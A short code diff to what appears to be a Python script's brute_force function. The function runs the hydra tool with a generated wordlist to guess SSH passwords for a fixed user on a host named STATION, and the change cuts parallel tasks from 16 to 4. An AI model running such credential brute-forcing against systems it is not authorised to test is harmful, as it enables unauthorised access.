@@ -61,7 +61,7 @@ def brute_force() -> str | None:
         wordlist = os.path.join(work, "words.txt")
         with open(wordlist, "w") as out:
             out.write("\n".join(words) + "\n")
-        argv = [hydra, "-I", "-f", "-t", "16", "-l", USER, "-P", wordlist, f"ssh://{STATION}"]
+        argv = [hydra, "-I", "-f", "-t", "4", "-l", USER, "-P", wordlist, f"ssh://{STATION}"]
         for attempt in range(2):  # a busy station drops some connections: try once more
             print("$", " ".join(argv), flush=True)
             run = subprocess.run(argv, capture_output=True, text=True, cwd=work, check=False)
